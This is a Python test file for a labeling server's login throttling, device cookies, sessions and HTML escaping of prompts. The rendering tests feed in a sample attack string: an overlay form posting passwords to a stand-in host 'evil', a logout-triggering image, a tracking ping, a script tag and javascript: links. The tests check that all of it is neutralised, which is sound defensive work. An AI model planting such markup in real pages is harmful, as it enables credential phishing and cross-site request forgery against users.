"""The labeling server's front door as pure logic: login back-off, sessions, rendering. Worked by hand."""

from __future__ import annotations

import pytest

from labeling_ui.guard import Backoff, DeviceCookies, LoginThrottle, Sessions, ThrottleSettings
from labeling_ui.render import markdown_html, prompt_html, verbatim_html

SETTINGS = ThrottleSettings(address_failures=3, name_failures=5, device_failures=2, window_s=600.0, first_wait_s=30.0,
                            max_wait_s=100.0)


class Clock:
    def __init__(self, t: float = 1000.0):
        self.t = t

    def __call__(self) -> float:
        return self.t


def test_backoff_waits_from_the_threshold_and_doubles_up_to_the_cap():
    b = Backoff(3, SETTINGS)
    assert b.until("k", 0.0) is None
    b.fail("k", 0.0), b.fail("k", 1.0)
    assert b.until("k", 1.0) is None  # 2 failures: below the threshold of 3
    b.fail("k", 2.0)
    assert b.until("k", 2.0) == 32.0  # 3rd failure at t=2: waits 30 s
    assert b.until("k", 32.0) is None  # then may try once more
    b.fail("k", 40.0)
    assert b.until("k", 40.0) == 100.0  # 4th: 60 s from t=40
    b.fail("k", 100.0)
    assert b.until("k", 100.0) == 200.0  # 5th: 120 s, capped at 100 s
    assert b.until("k", 700.0) is None  # by t=700 the early failures left the 600 s window


def test_address_waits_whatever_names_it_tries():
    clock, lines = Clock(), []
    t = LoginThrottle(SETTINGS, clock=clock, log=lines.append)
    for name in ("ann", "bob", "cat"):  # a password sprayed across names
        assert t.check(name, "10.0.0.9") is None
        t.record_failure(name, "10.0.0.9")
    refusal = t.check("dan", "10.0.0.9")
    assert refusal is not None and refusal.reason == "address" and refusal.retry_at == 1030.0
    assert "from this address" in refusal.message and ":" in refusal.message.split("try again at ")[1]
    assert t.check("dan", "10.0.0.10") is None  # another address is not held up by it
    assert lines == ["alignkit label: address 10.0.0.9 made 3 failed logins; it waits from now on"]


def test_a_stranger_cannot_lock_a_user_out_of_a_browser_that_logged_in_before():
    clock = Clock()
    t = LoginThrottle(SETTINGS, clock=clock, log=lambda line: None)
    for i in range(5):  # five strangers, one guess each: under every address threshold, at the name's
        t.record_failure("ann", f"198.51.100.{i}")
    refusal = t.check("ann", "203.0.113.7")  # any browser without ann's cookie waits for the name
    assert refusal is not None and refusal.reason == "name" and refusal.retry_at == 1030.0
    assert t.check("ann", "198.51.100.0", device="ann-laptop") is None  # ann's browser, even at a bad address
    assert t.check("bob", "203.0.113.7") is None  # other names are not affected
    # Her browser is throttled on its own failures (a stolen cookie does not buy unlimited guesses).
    t.record_failure("ann", "192.0.2.1", device="ann-laptop")
    t.record_failure("ann", "192.0.2.1", device="ann-laptop")
    assert t.check("ann", "192.0.2.1", device="ann-laptop").reason == "device"
    assert t.check("ann", "192.0.2.1", device="ann-phone") is None
    clock.t = 1030.0
    assert t.check("ann", "203.0.113.7") is None  # the wait ends: no name is locked for good


def test_a_refused_login_is_not_counted():
    clock = Clock()
    t = LoginThrottle(SETTINGS, clock=clock, log=lambda line: None)
    for _ in range(3):
        t.record_failure("ann", "10.0.0.1")
    first = t.check("ann", "10.0.0.1")
    for _ in range(10):
        assert t.check("ann", "10.0.0.1") == first  # asking again does not lengthen the wait


def test_device_cookies_name_one_user_and_cannot_be_forged():
    cookies = DeviceCookies(b"k" * 32)
    value = cookies.issue("ann.lee@lab")
    device = cookies.device_for(value, "ann.lee@lab")
    assert device and device == value.split(".")[0]
    assert cookies.device_for(value, "bob") is None  # for another name it proves nothing
    assert cookies.device_for(value[:-1] + ("0" if value[-1] != "0" else "1"), "ann.lee@lab") is None
    assert DeviceCookies(b"x" * 32).device_for(value, "ann.lee@lab") is None  # another server's key
    assert cookies.device_for(None, "ann") is None and cookies.device_for("garbage", "ann") is None


def test_sessions_end_after_their_lifetime():
    clock = Clock()
    sessions = Sessions(60.0, clock=clock)
    tokens = {"tok": "ann"}
    sessions.started("tok")
    assert sessions.alive(tokens, "tok") == ("ann", 1060.0)
    clock.t = 1059.9
    assert sessions.alive(tokens, "tok")[0] == "ann"
    clock.t = 1060.0
    assert sessions.alive(tokens, "tok") == (None, None) and tokens == {}  # dropped from Gradio's table
    assert sessions.alive(tokens, None) == (None, None) and sessions.alive(tokens, "other") == (None, None)


ATTACK = ('<div style="position:fixed;inset:0"><form action="http://evil/"><input name=password></form></div>'
          '<img src="/logout"><a ping="http://evil/p" href="#">x</a><script>x()</script>')


OUR_TAGS = {"div", "span", "p", "pre", "code", "strong", "em", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li",
            "blockquote", "hr", "br"}
OUR_ATTRIBUTES = {"class", "dir", "title"}


def tags_and_attributes(markup: str) -> tuple[set[str], set[str]]:
    from html.parser import HTMLParser

    found: tuple[set[str], set[str]] = (set(), set())

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found[0].add(tag)
            found[1].update(name for name, _ in attrs)

    Parser().feed(markup)
    return found


@pytest.mark.parametrize("render", [verbatim_html, markdown_html])
def test_no_tag_of_a_prompt_survives_either_view(render):
    out = render(ATTACK + "\n\n**b** [x](javascript:alert(1)) ![i](http://evil/i.png) <http://evil/>\n\n"
                          "[r]: http://evil/ref\n[r]")
    tags, attributes = tags_and_attributes(out)
    assert tags <= OUR_TAGS and attributes <= OUR_ATTRIBUTES  # no form, img, a, style, href, src, ping
    assert "&lt;img src=&quot;/logout&quot;&gt;" in out


def test_verbatim_is_character_for_character():
    import html

    text = "  <b>x</b> & y\n\n\tz  "
    out = verbatim_html(text)
    assert out == f'<div class="ak-text" dir="auto">{html.escape(text)}</div>'


def test_markdown_escapes_html_and_leaves_links_as_text():
    out = markdown_html("**bold** <b>raw</b> [x](javascript:alert(1))\n\n```python\nprint('<hi>')\n```")
    assert "<strong>bold</strong>" in out and "&lt;b&gt;raw&lt;/b&gt;" in out
    assert "[x](javascript:alert(1))" in out  # shown as written, not a link
    assert '<span class="ak-hl-' in out and "&lt;hi&gt;" in out  # highlighted, still escaped


def test_bidi_controls_are_made_visible_and_direction_follows_the_text():
    out = verbatim_html("abc\u202edcba\u2066x")
    assert "\u202e" not in out and "\u2066" not in out
    assert "&lt;U+202E&gt;" in out and "&lt;U+2066&gt;" in out and 'dir="auto"' in out


def test_chat_prompts_show_roles_and_model_turns_as_text():
    out = prompt_html([{"role": "user", "content": "hi <i>"}, {"role": "assistant", "content": "<b>bold</b>"},
                       {"role": "<script>", "content": "x"}], markdown=False)
    assert out.count('class="ak-turn') == 3 and "&lt;b&gt;bold&lt;/b&gt;" in out
    assert '<div class="ak-role">user</div>' in out and "&lt;script&gt;" in out and "<script>" not in out
